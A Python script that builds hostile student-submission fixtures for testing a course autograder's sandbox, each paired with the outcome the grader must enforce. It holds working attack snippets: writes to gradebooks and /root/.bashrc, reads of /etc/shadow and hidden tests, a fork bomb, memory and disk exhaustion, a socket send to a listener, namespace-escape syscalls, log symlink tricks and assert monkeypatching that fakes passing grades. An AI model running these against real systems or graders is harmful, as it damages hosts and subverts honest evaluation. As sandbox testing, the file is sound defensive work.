"""Make the hostile fixture submissions of `decoder_block` from the instructor's notebook.

    python autograder/hostile/make_hostile.py   # rewrites autograder/hostile/{submitted/,expected.json}

Each fixture is one student's submission: the solution as a student would hand it in (solution
markers and hidden tests removed), with one hostile change. `expected.json` says what grading
must make of it: which graded cells pass, the score, and what must not have happened.
`tests/test_sandbox_hostile.py` grades them all through the real path (the course's nbgrader
configuration, the sandbox and `autograder.driver`) and checks every expectation.

A kernel works in a scratch copy of its folder that is removed after it: nothing it writes
reaches nbgrader's folders. So a fixture that records what it managed in a JSON file (the
expectations `file_equals` and `file_at_most` name the file) also prints that file, on one line
`hostile-result <file> <json>` (`REPORT`, added by `reporting` to the cell that writes it), and
the tests read it from the graded notebook's outputs.
"""
from __future__ import annotations

import copy
import hashlib
import json
import sys
from pathlib import Path

import nbformat

from autograder.sandbox.policy import Limits

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
ASSIGNMENT = "decoder_block"
SOURCE = ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"

MASK_SOFTMAX = ["mask_test", "mask_hidden", "softmax_test", "softmax_hidden"]
BLOCK_VISIBLE = ["block_shapes", "block_output"]
BLOCK_HIDDEN = ["block_output_hidden", "block_causal_hidden", "block_question_hidden"]
ALL = MASK_SOFTMAX + BLOCK_VISIBLE + BLOCK_HIDDEN
# Ports the network fixture tries; the test listens on one of them, outside the sandbox.
LISTEN_PORTS = range(47600, 47620)
REPORT = "hostile-result"  # the prefix of the line on which a fixture prints a JSON file it wrote
FROZEN_TIMESTAMP = "2999-01-01 00:00:00.000000 UTC"  # what timestamp_freeze writes


def student_form(nb):
    """The solution as handed in: markers dropped, hidden tests absent, no outputs."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if cell.cell_type != "code":
            continue
        lines, hiding = [], False
        for line in cell.source.splitlines():
            if "### BEGIN HIDDEN TESTS" in line:
                hiding = True
            elif "### END HIDDEN TESTS" in line:
                hiding = False
            elif not hiding and "### BEGIN SOLUTION" not in line and "### END SOLUTION" not in line:
                lines.append(line)
        cell.source = "\n".join(lines)
        cell.outputs, cell.execution_count = [], None
    return nb


def index_of(nb, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(f"{SOURCE.name} has no cell {grade_id!r}: update make_hostile.py")


def insert_after(nb, grade_id: str | None, source: str):
    """A new ungraded code cell after `grade_id` (after the imports cell when None)."""
    at = 2 if grade_id is None else index_of(nb, grade_id) + 1
    cell = nbformat.v4.new_code_cell(source)
    cell.id = "hostile-" + hashlib.sha256(source.encode()).hexdigest()[:8]  # reproducible files
    nb.cells.insert(at, cell)
    return nb


def with_forward(nb, body: str):
    """Replace the body of DecoderBlock.forward (after its docstring) with `body`."""
    cell = nb.cells[index_of(nb, "block_solution")]
    lines = cell.source.splitlines()
    start = next(i for i, line in enumerate(lines) if line.strip().startswith("def forward")) + 2
    cell.source = "\n".join(lines[:start] + ["        " + b for b in body.splitlines()])
    return nb


WRONG_FORWARD = "return dec_inp  # skips the whole block"

ESCAPE = r'''
# Try to write outside the working folder: the course's solutions, gradebook, other students,
# the package source and home. Every success is recorded in escape.json.
import json, os
from pathlib import Path
import encdec
here = Path.cwd()
course = here.parents[3]  # autograder/autograded/<student>/<assignment> -> course root
targets = [course / "solutions" / "decoder_block" / "pwned.txt",
           course / "solutions" / "decoder_block" / "decoder_block.ipynb",
           course / "autograder" / "gradebook.db",
           here.parent.parent / "other_student" / "pwned.txt",
           Path(encdec.__file__).parent / "model.py",
           Path(encdec.__file__).parents[1] / "solutions" / "pwned.txt",
           Path("/root/pwned.txt"), Path(os.path.expanduser("~root")) / ".bashrc",
           Path("/etc/pwned.txt"), Path("/usr/pwned.txt")]
escaped = []
for t in targets:
    try:
        with open(t, "a") as f:
            f.write("pwned")
        escaped.append(str(t))
    except OSError as err:
        print(f"blocked: {t}: {err.strerror}")
Path("escape.json").write_text(json.dumps(escaped))
'''

STEAL = r'''
# Try to read hidden material: the instructor's notebook (hidden tests), the gradebook, the
# grader's code, other students' work, home. Every success is recorded in stolen.json.
import json, os
from pathlib import Path
import encdec
here = Path.cwd()
course = here.parents[3]
repo = Path(encdec.__file__).parents[1]
candidates = [here / "decoder_block.ipynb",  # the notebook being graded: hidden tests restored
              course / "solutions" / "decoder_block" / "decoder_block.ipynb",
              repo / "solutions" / "decoder_block" / "decoder_block.ipynb",
              course / "autograder" / "gradebook.db", repo / "autograder" / "gradebook.db",
              course / "autograder" / "trusted.py", repo / "autograder" / "trusted.py",
              course / "nbgrader_config.py", repo / "nbgrader_config.py",
              here.parent.parent / "pass_all" / "decoder_block" / "decoder_block.ipynb",
              Path("/root/.bashrc"), Path("/etc/shadow")]
stolen = []
for c in candidates:
    try:
        stolen.append([str(c), len(Path(c).read_bytes())])
    except OSError as err:
        print(f"unreadable: {c}: {err.strerror}")
for d in [here, course, repo, Path("/root"), here.parent.parent]:
    try:
        print(d, sorted(os.listdir(d)))
    except OSError as err:
        print(f"unlistable: {d}: {err.strerror}")
Path("stolen.json").write_text(json.dumps(stolen))
'''

NETWORK = f'''
# Try to reach a listener that the grader's test runs on 127.0.0.1 outside the sandbox.
import json, socket
from pathlib import Path
reached = []
for port in {list(LISTEN_PORTS)!r}:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.sendall(b"exfiltrated")
            reached.append(port)
    except OSError:
        pass
print("reached:", reached)
Path("network.json").write_text(json.dumps(reached))
'''

FORK_BOMB = '''
# Fork until the process limit says no; every child sleeps to hold its slot.
import os, time
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        children += 1
except OSError as err:
    print(f"fork refused after {children} children: {err}")
'''

PATCH_ASSERTS = '''
# Make every comparison succeed, then print a fake verdict.
import builtins, numpy, torch
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
print("passed (checked by the grader): every check")
'''

PATCH_CHECKS = '''
# Replace the check library's entry point: nothing is run, everything "passes".
from encdec.grading import checks
checks.run = lambda check_id, impl, *a, **k: print(f"passed (checked by the grader): {check_id}")
'''

STORED = '''import numpy as np
stored = np.load("reference/decoder_block.output.npz")["expected/out"]  # the visible test's expected output
return torch.from_numpy(stored.copy())'''

BIG_OUTPUT = '''
# About 20 MB of output.
for i in range(200_000):
    print(f"{i:08d} " + "x" * 91)
'''

SIGINT_LOOP = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''

MEMORY_BOMB = '''hoard = []
while True:
    hoard.append(b"\\x01" * (256 * 2**20))  # touched pages: real memory, 256 MiB at a time'''

# The fixtures below are caught by the kernel's cgroup and seccomp filter (sandbox/cgroups.py,
# sandbox/seccomp.py), not by the per-process limits.

MEMFD_HOARD = '''import os
hoard, chunk = [], b"\\x01" * (16 * 2**20)
for i in range(72):  # 4.5 GiB in memfds of 64 MiB (the file-size limit): written, never mapped,
    fd = os.memfd_create(f"hoard{i}")  # so no address space is used
    for _ in range(4):
        os.write(fd, chunk)
    hoard.append(fd)
return dec_inp  # reached only where nothing caps the memory of the kernel as a whole'''

CHILDREN_MEMORY = '''
# Two fresh children (each far below its own address-space limit) touch 2.25 GiB each, together
# more than the kernel's memory; children.json says whether both ever held it at once.
import json, subprocess, sys
from pathlib import Path
CHILD = "import time\\nhold = [b'\\\\x01' * (256 * 2**20) for _ in range(9)]\\ntime.sleep(1)"
children = [subprocess.Popen([sys.executable, "-c", CHILD]) for _ in range(2)]
codes = [c.wait() for c in children]
print("children exited with", codes)
Path("children.json").write_text(json.dumps({"both_held": codes == [0, 0]}))
'''

CPU_HOG = '''
# Four children spin for 4 s of wall time each; cpu.json: how many CPUs they got together.
import json, resource, subprocess, sys, time
from pathlib import Path
SPIN = "import time\\nend = time.monotonic() + 4\\nwhile time.monotonic() < end:\\n    pass"
start = time.monotonic()
for child in [subprocess.Popen([sys.executable, "-c", SPIN]) for _ in range(4)]:
    child.wait()
wall = time.monotonic() - start
used = resource.getrusage(resource.RUSAGE_CHILDREN)
cpus = (used.ru_utime + used.ru_stime) / wall
print(f"4 spinning children used {cpus:.2f} CPUs over {wall:.1f} s")
Path("cpu.json").write_text(json.dumps({"cpus_used": round(cpus, 2)}))
'''

# Raw system calls, with the numbers of the machine the kernel runs on.
SYSCALLS = '''
import ctypes, errno, json, os, platform
from pathlib import Path
NR = {"x86_64": dict(add_key=248, request_key=249, keyctl=250, unshare=272, clone=56, io_uring_setup=425),
      "aarch64": dict(add_key=217, request_key=218, keyctl=219, unshare=97, clone=220, io_uring_setup=425),
      }[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    """The call's result, or the name of its errno."""
    ctypes.set_errno(0)
    ret = libc.syscall(NR[name], *args)
    return errno.errorcode.get(ctypes.get_errno(), "?") if ret == -1 else ret
KEY_SPEC_USER_KEYRING, KEYCTL_SEARCH = ctypes.c_int(-4), 10  # the uid's keyring: outlives the kernel
print("kernel uid", os.getuid())
'''

KEYRING_WRITE = SYSCALLS + '''
secret = b"answers of the previous student"
stored = call("add_key", b"user", b"encdec-answers", secret, len(secret), KEY_SPEC_USER_KEYRING)
Path("keyring.json").write_text(json.dumps({"add_key": "stored" if isinstance(stored, int) else stored}))
'''

KEYRING_READ = SYSCALLS + '''
found = call("keyctl", KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, b"user", b"encdec-answers", 0)
asked = call("request_key", b"user", b"encdec-answers", None, 0)
Path("keyring.json").write_text(json.dumps({
    "keyctl_search": "found" if isinstance(found, int) else found,
    "request_key": "found" if isinstance(asked, int) else asked}))
'''

USERNS_ESCAPE = SYSCALLS + '''
CLONE_NEWUSER, SIGCHLD = 0x10000000, 17
attempts = {"clone": call("clone", CLONE_NEWUSER | SIGCHLD, None, None, None, None)}  # fork into a user namespace
if attempts["clone"] == 0:
    os._exit(0)
attempts["unshare"] = call("unshare", CLONE_NEWUSER)  # after clone: from inside one, clone would fail anyway
attempts["io_uring_setup"] = call("io_uring_setup", 8, ctypes.create_string_buffer(120))
attempts = {k: v if isinstance(v, str) else "allowed" for k, v in attempts.items()}
print(attempts)
Path("userns.json").write_text(json.dumps(attempts))
'''


# The fixtures below leave behind what the root grader must clean up or read safely
# (sandbox/safefs.py); the kernel finds its socket folder next to its connection file.

DEEP_TREE = '''
# Folder trees 1,500 levels deep wherever the kernel can write: its working folder, its /tmp and
# its socket folder. A recursive walk or removal of any of them raises RecursionError. (As root
# the socket folder is a tmpfs of 64 files: the tree stops there, and its tmpfs is unmounted.)
import errno, json, os
from pathlib import Path
from ipykernel.connect import get_connection_file
def deep(where, levels=1500):
    fd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
    made = 0
    try:
        for _ in range(levels):
            os.mkdir("d", dir_fd=fd)
            child = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd, made = child, made + 1
        os.close(os.open("leaf.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    except OSError as err:
        if err.errno != errno.ENOSPC:
            raise
    finally:
        os.close(fd)
    return made
made = {}
for name, where in [("working folder", "."), ("/tmp", "/tmp")]:
    try:
        made[name] = deep(where)
    except OSError as err:
        made[name] = err.strerror
Path("deep_tree.json").write_text(json.dumps(made))
Path("deep_socket.json").write_text(json.dumps({"levels": deep(os.path.dirname(get_connection_file()))}))
'''


def log_link(target: str) -> str:
    """Swap the kernel's log (in its socket folder) for a link to `target` (a Python expression)."""
    return f'''
# The launcher (root) shows the end of the kernel's log when the kernel fails: make the log a
# link to {target}, then fail (the next cell).
import os
from pathlib import Path
from ipykernel.connect import get_connection_file
course = Path.cwd().parents[3]  # autograder/autograded/<student>/<assignment> -> course root
log = Path(get_connection_file()).parent / "kernel.log"
log.unlink()
log.symlink_to({target})
print("kernel.log now links to", os.readlink(log))
'''


TIMESTAMP_FREEZE = f'''
# What would matter if the kernel's folder were copied back into nbgrader's: a timestamp far in
# the future (a plain `nbgrader autograde` skips a resubmission older than the graded copy's
# timestamp), 240 MiB of files and 3,000 small ones (its tmpfs holds 4,096) (copied again into feedback/).
import json, os
from pathlib import Path
Path("timestamp.txt").write_text("{FROZEN_TIMESTAMP}\\n")
for i in range(4):
    with open(f"big{{i}}.bin", "wb") as f:
        f.truncate(60 * 2**20)  # sparse: 60 MiB each, under the file-size limit
Path("many").mkdir()
for i in range(3000):
    Path("many", f"f{{i}}.txt").write_text("x")
Path("freeze.json").write_text(json.dumps({{"timestamp": Path("timestamp.txt").read_text().strip(),
                                           "files": len(os.listdir("many")) + 5}}))
'''

CHMOD_TRAP = '''
# Folders without any permission left (mode 000, files inside), and a file made immutable if the
# kernel may (it may not: no CAP_LINUX_IMMUTABLE), in the working and the socket folder (the next
# cell leaves the working folder itself mode 000). Whoever cleans up must remove all of it.
import fcntl, json, os, struct
from pathlib import Path
from ipykernel.connect import get_connection_file
def trap(where):
    top = Path(where) / "trap"
    (top / "inner").mkdir(parents=True)
    for folder in (top, top / "inner"):
        for i in range(3):
            (folder / f"f{i}.txt").write_text("x")
    fd = os.open(top / "frozen.txt", os.O_WRONLY | os.O_CREAT, 0o644)
    try:
        flags = struct.unpack("i4x", fcntl.ioctl(fd, 0x80086601, bytes(8)))[0]  # FS_IOC_GETFLAGS
        fcntl.ioctl(fd, 0x40086602, struct.pack("i4x", flags | 0x10))  # FS_IOC_SETFLAGS, immutable
        immutable = True
    except OSError:
        immutable = False
    finally:
        os.close(fd)
    os.chmod(top / "inner", 0)
    os.chmod(top, 0)
    return {"trapped": True, "immutable": immutable}
result = {"working folder": trap("."), "socket folder": trap(os.path.dirname(get_connection_file()))}
Path("chmod_trap.json").write_text(json.dumps(result))
'''

SHARED_ROOT = '''
# What a kernel can list of the folders around its own: nbgrader's autograded/ folder (other
# students' names, made there for earlier kernels of the same fork server?) and the folder of
# the socket folders (other kernels'?). Graded late in the batch, after many students.
import json, os
from pathlib import Path
from ipykernel.connect import get_connection_file
me = Path.cwd().parent  # autograded/<student>/<assignment> -> autograded/<student>
sockdir = Path(get_connection_file()).parent
others = [n for n in os.listdir(me.parent) if n != me.name]
others += [n for n in os.listdir(sockdir.parent) if n != sockdir.name]
Path("shared_root.json").write_text(json.dumps({"others": sorted(others)}))
'''


FILL_FOLDER = '''
# Fill the working folder: bytes until the disk says no (4 MiB at a time, files under the
# file-size limit), then empty files until it says no. Bounded here at twice the sandbox's
# limits, so that a grader without them still finishes. Then clean up and go on.
import errno, json, os
from pathlib import Path
Path("fill").mkdir()
def stop_reason(write, most):
    for i in range(most):
        try:
            write(i)
        except OSError as err:
            return errno.errorcode[err.errno], i
    return "not stopped", most
chunk = b"x" * (4 << 20)
def write_bytes(i):
    with open(f"fill/b{{i // 12}}.bin", "ab") as f:  # 48 MiB a file
        f.write(chunk)
bytes_stop, chunks = stop_reason(write_bytes, 2 * {work_mb} // 4)
files_stop, files = stop_reason(lambda i: open(f"fill/f{{i}}", "w").close(), 2 * {work_files})
for name in os.listdir("fill"):
    os.unlink(f"fill/{{name}}")
os.rmdir("fill")
Path("fill.json").write_text(json.dumps({{"bytes": bytes_stop, "files": files_stop}}))
Path("fill_counts.json").write_text(json.dumps({{"mib": chunks * 4, "files": files}}))
'''.format(work_mb=Limits.work_mb, work_files=Limits.work_files)


def reporting(nb, names):
    """The cell that writes each JSON file of `names` also prints it on one `REPORT` line."""
    for name in names:
        cells = [c for c in nb.cells if c.cell_type == "code" and f'Path("{name}").write_text(' in c.source]
        if not cells:
            raise ValueError(f"no cell writes {name}: an expectation names a file the fixture does not write")
        for cell in cells:
            cell.source = cell.source.rstrip("\n") + f'\nprint("{REPORT} {name}", Path("{name}").read_text())'
    return nb


def fixtures(base):
    """(student, notebook or raw text or None, expectation) for every hostile submission."""
    def nb():
        return copy.deepcopy(base)

    def edited():
        n = with_forward(nb(), WRONG_FORWARD)
        for gid in BLOCK_VISIBLE:
            n.cells[index_of(n, gid)].source = "assert True"
        return n

    def deleted():
        n = nb()
        for gid in ["block_output", "block_causal_hidden"]:
            del n.cells[index_of(n, gid)]
        return n

    yield "pass_all", nb(), dict(passed=ALL, why="the solution, handed in: full marks")
    # Honest students spread among the hostile ones (the driver grades in name order): each is
    # graded as if it were alone in the batch.
    for student in ("b_honest", "m_honest", "y_honest"):
        yield student, nb(), dict(passed=ALL, why="an honest solution among hostile neighbours: full marks")
    yield "h_honest_wrong", with_forward(nb(), WRONG_FORWARD), dict(
        passed=MASK_SOFTMAX + ["block_shapes"], why="an honest wrong block among hostile neighbours: its own score")
    yield "infinite_loop", insert_after(nb(), None, "while True:\n    pass"), dict(
        passed=ALL, why="the loop is interrupted at the cell time limit; the rest is graded")
    yield "ignores_sigint", insert_after(nb(), "softmax_hidden", SIGINT_LOOP), dict(
        passed=MASK_SOFTMAX, why="the interrupt is ignored: the kernel is killed, later cells score 0")
    yield "os_exit", insert_after(nb(), "softmax_hidden", "import os\nos._exit(3)"), dict(
        passed=MASK_SOFTMAX, why="the kernel dies; the cells it did not reach score 0")
    yield "memory_bomb", with_forward(nb(), MEMORY_BOMB), dict(
        passed=MASK_SOFTMAX, why="MemoryError at the address-space limit, inside the block's forward")
    yield "fork_bomb", insert_after(nb(), "softmax_hidden", FORK_BOMB), dict(
        passed=MASK_SOFTMAX, output_contains="fork refused after",
        why="fork fails at the process limit; the bomber's own kernel then cannot start threads")
    yield "network", insert_after(nb(), None, NETWORK), dict(
        passed=ALL, file_equals={"network.json": []}, why="no network: the listener is never reached")
    yield "write_outside", insert_after(nb(), None, ESCAPE), dict(
        passed=ALL, file_equals={"escape.json": []}, host_untouched="escape.json",
        why="every write outside its folder fails (without root: or lands in the kernel's private /tmp, never "
            "on the host)")
    yield "read_hidden", insert_after(nb(), None, STEAL), dict(
        passed=ALL, file_equals={"stolen.json": []}, why="none of the hidden material is visible")
    yield "patched_asserts", insert_after(with_forward(nb(), WRONG_FORWARD), None, PATCH_ASSERTS), dict(
        passed=MASK_SOFTMAX + ["block_shapes"],
        why="patched comparisons and a fake verdict change nothing: the wrong block fails all but the shape test")
    yield "patched_checks", insert_after(with_forward(nb(), WRONG_FORWARD), None, PATCH_CHECKS), dict(
        passed=[], why="checks.run replaced: no outputs reach the grader, nothing passes")
    yield "stored_outputs", with_forward(nb(), STORED), dict(
        passed=MASK_SOFTMAX + ["block_shapes"],
        why="a replayed visible output has the right shape, but graded runs draw fresh inputs: only the shape passes")
    yield "edited_tests", edited(), dict(
        passed=MASK_SOFTMAX + ["block_shapes"],
        why="test cells edited to `assert True` are restored by nbgrader: the wrong block fails but its shape")
    yield "deleted_tests", deleted(), dict(
        passed=[g for g in ALL if g not in ("block_output", "block_causal_hidden")],
        why="deleted test cells are put back and score 0")
    yield "invalid_json", "{ this is not a notebook\n", dict(
        passed=[], status="failed", why="unreadable notebook: 0, reported, the batch goes on")
    yield "big_output", insert_after(nb(), None, BIG_OUTPUT), dict(
        passed=ALL, max_bytes=2_000_000, why="20 MB of prints are cut down; the notebook is graded")
    yield "big_line", insert_after(nb(), None, 'print("y" * 30_000_000)  # one 30 MB line'), dict(
        passed=ALL, max_bytes=2_000_000, why="a 30 MB line is cut to the per-cell output budget")
    yield "not_submitted", None, dict(passed=[], status="missing", why="no notebook: 0, reported")
    # Caught by the kernel's cgroup (`needs_cgroup`: only where the grader has one, see
    # sandbox/cgroups.py; elsewhere the grader warns that it falls back to per-process limits).
    yield "memfd_hoard", with_forward(nb(), MEMFD_HOARD), dict(
        passed=MASK_SOFTMAX, needs_cgroup=True,
        why="4.5 GiB in memfds, under the address-space and file-size limits: the cgroup's memory limit kills the kernel")
    yield "children_memory", insert_after(nb(), None, CHILDREN_MEMORY), dict(
        passed=ALL, needs_cgroup=True, file_equals={"children.json": {"both_held": False}},
        why="two children of 2.5 GiB each: the cgroup's memory limit kills one, the kernel goes on")
    yield "cpu_hog", insert_after(nb(), None, CPU_HOG), dict(
        passed=ALL, needs_cgroup=True, file_at_most={"cpu.json": {"cpus_used": 1.3}},
        why="four spinning children share the kernel's one CPU; the notebook and its neighbours are graded")
    # Caught by the seccomp filter (and a fresh uid per kernel): graded one after the other.
    yield "keyring_1_write", insert_after(nb(), None, KEYRING_WRITE), dict(
        passed=ALL, file_equals={"keyring.json": {"add_key": "EPERM"}},
        why="add_key refused: nothing is stored in the uid's keyring for the next kernel")
    yield "keyring_2_read", insert_after(nb(), None, KEYRING_READ), dict(
        passed=ALL, file_equals={"keyring.json": {"keyctl_search": "EPERM", "request_key": "EPERM"}},
        why="the keyring cannot be searched, and the kernel before ran under another uid")
    yield "userns_escape", insert_after(nb(), None, USERNS_ESCAPE), dict(
        passed=ALL, file_equals={"userns.json": {"unshare": "EPERM", "io_uring_setup": "EPERM", "clone": "EPERM"}},
        why="no user namespace (unshare, clone) and no io_uring")
    # Left behind for the root grader (sandbox/safefs.py): nothing is followed, walked
    # recursively or read without bound, nothing of the kernel's folder is copied back.
    yield "deep_tree", insert_after(nb(), None, DEEP_TREE), dict(
        passed=ALL, file_equals={"deep_tree.json": {"working folder": 1500, "/tmp": 1500}},
        file_at_most={"deep_socket.json": {"levels": 1500}},
        why="1,500-level trees in the working, /tmp and socket folders: removed, the batch goes on")
    last = "block_question_hidden"
    solution = 'course / "solutions" / "decoder_block" / "decoder_block.ipynb"'
    for student, target in [("log_symlink", solution), ("log_zero", '"/dev/zero"')]:
        n = insert_after(nb(), last, "import os\nos._exit(3)  # fail: the launcher shows the log")
        yield student, insert_after(n, last, log_link(target)), dict(
            passed=ALL, output_contains="kernel.log now links to",
            why="kernel.log made a link: the launcher reads no link (nothing of it in the grader's log, no "
                "endless read); the kernel dies after the last test")
    yield "zz_shared_root", insert_after(nb(), None, SHARED_ROOT), dict(
        passed=ALL, file_equals={"shared_root.json": {"others": []}},
        why="graded last: no other student's folder and no other kernel's socket folder is visible")
    yield "timestamp_freeze", insert_after(nb(), None, TIMESTAMP_FREEZE), dict(
        passed=ALL, file_equals={"freeze.json": {"timestamp": FROZEN_TIMESTAMP, "files": 3005}},
        why="timestamp.txt and 3,005 files written in its folder: none reaches autograded/ or feedback/")
    yield "fill_folder", insert_after(nb(), None, FILL_FOLDER), dict(
        passed=ALL, file_equals={"fill.json": {"bytes": "ENOSPC", "files": "ENOSPC"}},
        file_at_most={"fill_counts.json": {"mib": Limits.work_mb, "files": Limits.work_files}},
        why="its working folder is a tmpfs of its own: bytes and files stop at its limits, not at the host's disk")
    n = insert_after(nb(), last, 'import os\nos.chmod(".", 0)  # the working folder itself, last')
    yield "chmod_trap", insert_after(n, last, CHMOD_TRAP), dict(
        passed=ALL, file_equals={"chmod_trap.json": {f: {"trapped": True, "immutable": False}
                                                     for f in ("working folder", "socket folder")}},
        why="folders mode 000 (the working folder too), no immutable file: all removed after the kernel")


def main(argv: list[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(description="Write the hostile fixture submissions.")
    parser.add_argument("--out", type=Path, default=HERE, help="folder for submitted/ and expected.json")
    out_root = parser.parse_args(argv).out
    OUT = out_root / "submitted"
    base = student_form(nbformat.read(SOURCE, as_version=4))
    expected = {}
    written = set()
    for student, content, expect in fixtures(base):
        folder = OUT / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        target = folder / f"{ASSIGNMENT}.ipynb"
        if content is None:
            (folder / "README.txt").write_text("This student handed in no notebook.\n")
            written.add(folder / "README.txt")
        elif isinstance(content, str):
            target.write_text(content)
            written.add(target)
        else:
            reporting(content, [*expect.get("file_equals", {}), *expect.get("file_at_most", {})])
            nbformat.validate(content)
            target.write_text(nbformat.writes(content) + "\n")
            written.add(target)
        expect.setdefault("status", "graded")
        expected[student] = expect
    for stale in OUT.rglob("*"):
        if stale.is_file() and stale not in written:
            stale.unlink()
    (out_root / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    print(f"wrote {len(expected)} fixtures to {OUT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
